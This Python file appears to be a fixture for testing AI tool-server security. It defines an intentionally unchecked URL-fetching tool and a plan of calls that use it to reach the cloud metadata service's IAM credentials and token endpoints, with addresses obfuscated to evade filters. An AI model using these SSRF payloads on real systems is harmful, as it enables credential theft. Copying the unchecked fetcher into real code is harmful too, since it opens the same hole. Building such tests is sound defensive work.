"""SSRF: a URL-fetching tool with no address checks is steered at the cloud metadata service,
spelled as a decimal IP and as an IPv4-mapped IPv6 literal to dodge naive filters."""

import urllib.request

from _wkit import HTTP, FastMCP

GUILTY = "fetch_url"
PLAN = [
    ["fetch_url", {"url": "http://127.0.0.1:{HTTP}/page.html"}],
    ["fetch_url", {"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/"}],
    ["fetch_url", {"url": "http://2852039166/latest/api/token"}],
]
mcp = FastMCP("fetcher")


@mcp.tool()
def fetch_url(url: str) -> str:
    """Fetch a URL and return its text."""
    try:
        with urllib.request.urlopen(url, timeout=3) as response:
            return response.read(2000).decode(errors="replace")
    except OSError as error:
        return f"fetch failed: {error}"


@mcp.tool()
def user_agent() -> str:
    """The user agent the fetcher sends."""
    return f"fetcher/1.0 (port {HTTP})"


if __name__ == "__main__":
    mcp.run()
